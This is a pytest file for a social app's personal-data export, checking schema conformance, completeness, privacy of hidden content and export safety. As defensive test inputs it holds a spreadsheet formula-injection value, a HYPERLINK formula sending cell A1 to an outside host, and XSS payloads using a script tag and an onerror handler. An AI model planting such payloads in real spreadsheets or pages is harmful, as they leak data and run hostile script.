"""P10: everything of one's own, as a file."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from jsonschema import Draft202012Validator

from bridge.privacy.exporter import CONTEXT, EXTENSION, table
from bridge.rights.archive.models import Files
from tests.archives import alike, export, moments
from tests.docs.tables import ROOT
from tests.features.village import MINUTE, PICTURE, Village, user_id

ALICE, BOB, CAROL = (user_id(name) for name in ("alice", "bob", "carol"))
HOUR = 60 * MINUTE
DAY = 24 * HOUR


def live(village: Village) -> None:
    """Alice leaves something of each kind."""
    for text in (
        "profile set name Alice",
        "profile set bio All *about* me",
        "profile set phone 5",
        "profile set pet Cat",
        f"tag add #family {BOB}",
        "privacy set pet #family",
        f"tag add #work {CAROL}",
        f"remark {BOB} Robert",
        f"note {CAROL} From the choir",
        f"privacy set theirs {CAROL} off",
        "privacy set window 6m",
        "privacy set keep-comments on",
        "notify now #family",
        "notify quiet 22-7",
        "privacy set post #family",
        "invite new 2",
        "post to friends | For *friends*",
        "post to public except #work | For many",
        "post to #family live | For family",
        f"post to {BOB} | Hello {BOB}",
        "post cw Spiders | Eight legs",
        "post to private | Secret",
    ):
        village.say("alice", text)
    village.picture("alice", "profile set avatar")
    village.picture("alice", "post to friends | With a picture")
    village.say("alice", "expire 3 2d")
    village.say("alice", "responses 1 nobody")
    village.say("bob", "post Of Bob")
    village.say("bob", "feed")
    number = numbered(village, "bob", "For many")
    village.say("bob", f"comment {number} Bob says")
    village.say("bob", f"like {number}")
    number = numbered(village, "alice", "Of Bob")
    village.say("alice", f"comment {number} Alice says")
    village.say("alice", f"like {number}")
    village.say("alice", "post poll Yes / No / Maybe | Shall we?")
    number = numbered(village, "alice", "Shall we?")
    village.say("alice", f"vote {number} 2")
    village.say("bob", "feed")
    village.say("bob", f"vote {numbered(village, 'bob', 'Shall we?')} 1")
    village.say("alice", "post geo:48.2081,16.3713 | Here")
    village.say("alice", "post at 2025-06-20 18:00 | Later")
    village.picture("alice", "post at 2025-06-20 19:00 | With a lake")
    village.say("alice", "post")
    village.say("alice", "Not yet")
    village.wait(2 * MINUTE)


def numbered(village: Village, name: str, words: str) -> str:
    """Somebody's number of a moment."""
    village.say(name, "feed")
    village.say(name, "feed more")
    [number, *_] = re.findall(r"#(\d+)", next(body for body in village.bodies(name) if words in body))
    return str(number)


# --- what it holds ----------------------------------------------------------------------------------------------
def test_every_file_is_as_the_published_schema_says(village: Village) -> None:
    live(village)
    schema = json.loads((ROOT / "docs" / "archive" / "archive.schema.json").read_text("utf-8"))
    Draft202012Validator.check_schema(schema)
    files = export(village, "alice")
    checked = [name for name in files if name.endswith(".json")]
    for name in checked:
        kind = Files.model(name)
        assert kind is not None, name
        reference = {"$ref": f"#/$defs/{kind.__name__}", "$defs": schema["$defs"]}
        Draft202012Validator(reference).validate(json.loads(files[name]))
        Draft202012Validator(schema).validate(json.loads(files[name]))
    assert len(checked) == 8


def test_the_schema_refuses_what_is_not_as_it_should_be(village: Village) -> None:
    village.say("alice", "post Hello")
    files = export(village, "alice")
    schema = json.loads((ROOT / "docs" / "archive" / "archive.schema.json").read_text("utf-8"))
    page = json.loads(files["moments/0001.json"])
    for change in (
        {"published": None},
        {"id": "1"},
        {"published": "yesterday"},
        {"audience_rule": {"kind": "all"}},
        {"more": 1},
    ):
        changed = json.loads(json.dumps(page))
        changed["orderedItems"][0]["object"].update(change)
        assert not Draft202012Validator(schema).is_valid(changed)


def test_activities_are_json_ld(village: Village) -> None:
    """Each key is a term, each type a class, each reference an IRI, against the context that is kept in `docs`."""
    live(village)
    files = export(village, "alice")
    published = json.loads((ROOT / "docs" / "archive" / "activitystreams.jsonld").read_text("utf-8"))["@context"]
    own = CONTEXT[1]
    assert isinstance(own, dict)
    prefixes = {"as": published["as"], "xsd": published["xsd"], "cy": EXTENSION}
    terms = {**published, **own}
    for name, definition in terms.items():
        if not name.startswith("@") and name not in prefixes:
            where = definition["@id"] if isinstance(definition, dict) else definition
            assert where.startswith("@") or where.partition(":")[0] in prefixes, name

    def check(value: object) -> None:
        if isinstance(value, list):
            for one in value:
                check(one)
        if not isinstance(value, dict):
            return
        for key, inside in value.items():
            if key == "@context":
                assert inside == CONTEXT
                continue
            assert key in terms, key
            definition = terms[key]
            kind = definition.get("@type") if isinstance(definition, dict) else None
            if kind == "@json":
                continue
            if key == "type":
                assert terms[inside].startswith("as:")
            if kind == "@id" or key == "id":
                for one in inside if isinstance(inside, list) else [inside]:
                    if isinstance(one, str):
                        relative = re.fullmatch(r"(\.\./)?[a-z0-9/.-]+", one) and key != "id"
                        assert relative or re.match(r"(matrix:u/|urn:uuid:|https://www\.w3\.org/ns/)\S+$", one), one
            if kind == "xsd:dateTime":
                assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", inside)
            check(inside)

    documents = [json.loads(data) for name, data in files.items() if name.endswith(".json")]
    linked = [value for value in documents if "@context" in value]
    assert len(linked) == 4
    for value in linked:
        assert value["@context"][0] == "https://www.w3.org/ns/activitystreams"
        check(value)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("sign", [*"=+-@＝＋－＠", "\t=", "\n=", "\r="])
def test_no_list_holds_a_formula(sign: str) -> None:
    text = f'{sign}HYPERLINK("https://example.org/"&A1)'
    [[cell]] = csv.reader(io.StringIO(table(["a"], [[text]]).decode().partition("\r\n")[2], newline=""))
    assert cell == f"'{text}", "and nothing of it is lost"


def test_pages_run_and_load_nothing(village: Village) -> None:
    live(village)
    village.say("alice", "post <script>alert(1)</script> [here](https://example.org/x) ![p](https://example.org/p.png)")
    village.say("alice", "profile set region <img src=https://example.org/y onerror=alert(1)>")
    files = export(village, "alice")
    pages = {name: data.decode() for name, data in files.items() if name.endswith(".html")}
    assert {"index.html", "contacts.html", "profile.html", "moments/0001.html", "log.html"} <= pages.keys()
    for name, text in pages.items():
        page = _Page()
        page.feed(text)
        policy = [attrs["content"] for tag, attrs in page.tags if attrs.get("http-equiv") == "Content-Security-Policy"]
        assert policy
        assert str(policy[0]).startswith("default-src 'none'; img-src 'self' file:;")
        for tag, attrs in page.tags:
            assert tag not in ("script", "iframe", "object", "link", "form", "base", "svg"), name
            assert not [one for one in attrs if one.startswith("on")], name
            for one in ("src", "href"):
                if one in attrs:
                    target = str(attrs[one])
                    assert ":" not in target
                    where = "/".join(part for part in (name.rpartition("/")[0], target) if part)
                    where = re.sub(r"[a-z]+/\.\./", "", where)
                    assert where in files, "it leads to a file of the archive"
    assert "here (https://example.org/x)" in pages["moments/0001.html"]
    assert "&lt;script&gt;" in pages["moments/0001.html"]


def test_it_holds_everything(village: Village) -> None:
    live(village)
    files = export(village, "alice")
    found = moments(files)
    assert [one["source"]["content"] for one in found] == [
        "Here",
        "Shall we?",
        "With a picture",
        "Secret",
        "Eight legs",
        f"Hello {BOB}",
        "For family",
        "For many",
        "For *friends*",
    ]
    by_text = {one["source"]["content"]: one for one in found}
    assert by_text["For many"]["audience_rule"] == {"kind": "public", "except_tags": ["work"]}
    assert by_text["For many"]["to"] == ["https://www.w3.org/ns/activitystreams#Public"]
    assert by_text["For family"]["audience_rule"] == {"kind": "people", "tags": ["family"]}
    assert "expires" in by_text["For family"]
    assert by_text["Eight legs"]["summary"] == "Spiders"
    assert by_text["For *friends*"]["responders"] == {"tag": None}
    assert by_text["For *friends*"]["content"] == "<p>For <em>friends</em></p>"
    assert [one["name"] for one in by_text[f"Hello {BOB}"]["tag"]] == [BOB]
    [image] = by_text["With a picture"]["attachment"]
    assert files[image["url"].removeprefix("../")] == PICTURE
    [reply] = by_text["For many"]["replies"]["items"]
    assert (reply["source"]["content"], reply["attributedTo"]) == ("Bob says", "matrix:u/bob:x.org")
    assert by_text["For many"]["likes"]["items"] == ["matrix:u/bob:x.org"]
    contacts = json.loads(files["contacts.json"])
    assert [one["user"] for one in contacts["friends"]] == [BOB, CAROL]
    assert [(one["name"], one["members"]) for one in contacts["tags"]] == [("family", [BOB]), ("work", [CAROL])]
    assert {one["user"]: (one["name"], one["note"], one["hidden"]) for one in contacts["people"]} == {
        BOB: ("Robert", None, False),
        CAROL: (None, "From the choir", True),
    }
    actor = json.loads(files["actor.json"])
    fields = {one["field"]: one for one in actor["fields"]}
    assert fields["pet"]["audience"] == {"kind": "people", "tags": ["family"]}
    assert files[fields["avatar"]["media"]] == PICTURE
    assert (actor["name"], actor["summary"]) == ("Alice", "All *about* me")
    rest = json.loads(files["moments.json"])
    assert [draft["text"] for draft in rest["drafts"]] == ["Later", "With a lake", "Not yet"]
    assert [one["text"] for one in rest["kept_comments"]] == ["Alice says"]
    assert rest["notify"]["tags"] == {"family": "now"}
    assert rest["post_for"]["tags"] == ["family"]
    assert json.loads(files["settings.json"])["privacy"]["window"] == "6m"

    def rows(name: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(files[f"lists/{name}.csv"].decode())))[1:]

    assert [row[0] for row in rows("friends")] == [f"'{BOB}", f"'{CAROL}"], "no formula for a spreadsheet"
    assert rows("comments-0001")[0][2] == "Alice says"
    assert rows("likes-0001")[0][0] == f"'{BOB}"
    assert [row[1] for row in rows("log")] == ["export", "exported"]
    assert len(rows("invites")) == 1


def test_in_chinese(village: Village) -> None:
    village.say("alice", "language zh")
    village.say("alice", "post 你好")
    village.say("alice", "导出")
    village.work()
    assert "你的一切" in village.bodies("alice")[-1]
    files = export(village, "alice")
    assert "你好" in files["moments/0001.html"].decode()
    assert "动态，第 1 页" in files["index.html"].decode()


def test_of_others_it_holds_what_one_sees(village: Village) -> None:
    village.befriend("bob", "carol")
    village.say("alice", "post Mine")
    for name in ("bob", "carol"):
        village.say(name, "feed")
        village.say(name, f"comment 1 {name} says")
        village.say(name, "like 1")
    village.say("alice", "comment 1 Mine too")
    assert "carol says" in export(village, "alice")["moments/0001.html"].decode()
    village.say("carol", f"block {ALICE}")
    village.say("alice", f"block {BOB}")
    text = "\n".join(data.decode("latin1") for name, data in export(village, "alice").items() if "moments/" in name)
    assert "Mine too" in text
    assert "bob says" not in text
    assert village.say("alice", "moment 1")[0].count("says") == text.count("carol says") // 3


def test_what_is_out_of_sight_looks_as_if_it_had_never_been(village: Village) -> None:
    """Not even that one commented it: else one would know whether it was deleted, or hidden from oneself alone."""
    village.say("bob", "post Of Bob")
    village.say("alice", "feed")
    village.say("alice", "comment 1 From Alice")
    village.say("alice", "like 1")
    village.say("bob", "feed")
    village.say("bob", f"privacy set mine {ALICE} off")
    hidden = alike(export(village, "alice"))
    village.say("bob", "delete 1")
    village.wait(MINUTE)
    gone = alike(export(village, "alice"))
    for name in hidden.keys() | gone.keys():
        if name not in ("index.html", "manifest.json", "log.html", "lists/log.csv"):
            assert hidden.get(name) == gone.get(name), name
    assert not any("From Alice" in text for text in gone.values())


def test_deleted_and_expired_moments_are_not_in_it(village: Village) -> None:
    for text in ("post Stays", "post Expires", "post Deleted"):
        village.say("alice", text)
    village.say("alice", "expire 2 1h")
    village.now += 2 * HOUR
    village.say("alice", "delete 3")
    assert [one["source"]["content"] for one in moments(export(village, "alice"))] == ["Stays"]


def test_a_damaged_row_costs_itself_alone(village: Village) -> None:
    village.picture("alice", "post One")
    village.say("alice", "post Two")
    village.say("alice", "profile set name Alice")
    village.say("alice", "profile set region Here")
    for statement in (
        "UPDATE moments SET sealed = ? WHERE id = 2",
        "UPDATE pictures SET sealed = ?",
        "UPDATE profile_fields SET sealed = ? WHERE field = 'region'",
    ):
        village.db.run_sync(lambda tx, statement=statement: tx.sql(statement, (b"x",)))  # type: ignore[misc]
    files = export(village, "alice")
    assert [one["source"]["content"] for one in moments(files)] == ["", "One"]
    assert "can't be read" in files["moments/0001.html"].decode()
    assert "Alice" in files["profile.html"].decode()
